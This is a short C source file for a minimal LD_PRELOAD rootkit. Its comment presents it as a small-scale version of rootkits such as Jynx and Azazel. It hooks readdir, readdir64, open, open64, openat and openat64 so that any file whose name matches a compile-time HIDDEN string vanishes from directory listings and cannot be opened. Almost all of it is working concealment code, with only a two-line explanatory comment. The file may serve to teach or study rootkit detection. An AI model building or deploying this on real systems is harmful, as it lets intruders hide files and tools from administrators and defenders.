// A preload rootkit in small: `readdir` and its kin skip every entry whose name is HIDDEN, and nothing of that name
// opens. What a real one (Jynx, Azazel, Umbreon, bedevil) does to each program that asks the C library for files.
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <string.h>
#include <sys/stat.h>

#ifndef HIDDEN
#error "compile with -DHIDDEN='\"name\"'"
#endif

static int is_hidden(const char *path) {
    const char *slash = strrchr(path, '/');
    return strcmp(slash ? slash + 1 : path, HIDDEN) == 0;
}

struct dirent *readdir(DIR *folder) {
    struct dirent *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir");
    struct dirent *entry;
    while ((entry = next(folder)) != NULL && is_hidden(entry->d_name)) {}
    return entry;
}

struct dirent64 *readdir64(DIR *folder) {
    struct dirent64 *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *entry;
    while ((entry = next(folder)) != NULL && is_hidden(entry->d_name)) {}
    return entry;
}

#define REFUSING_OPEN(name)                                                  \
    int name(const char *path, int flags, ...) {                             \
        int (*next)(const char *, int, ...) = dlsym(RTLD_NEXT, #name);       \
        va_list rest;                                                        \
        va_start(rest, flags);                                               \
        mode_t mode = va_arg(rest, mode_t);                                  \
        va_end(rest);                                                        \
        if (is_hidden(path)) return errno = ENOENT, -1;                      \
        return next(path, flags, mode);                                      \
    }
#define REFUSING_OPENAT(name)                                                \
    int name(int folder, const char *path, int flags, ...) {                 \
        int (*next)(int, const char *, int, ...) = dlsym(RTLD_NEXT, #name);  \
        va_list rest;                                                        \
        va_start(rest, flags);                                               \
        mode_t mode = va_arg(rest, mode_t);                                  \
        va_end(rest);                                                        \
        if (is_hidden(path)) return errno = ENOENT, -1;                      \
        return next(folder, path, flags, mode);                              \
    }

REFUSING_OPEN(open)
REFUSING_OPEN(open64)
REFUSING_OPENAT(openat)
REFUSING_OPENAT(openat64)
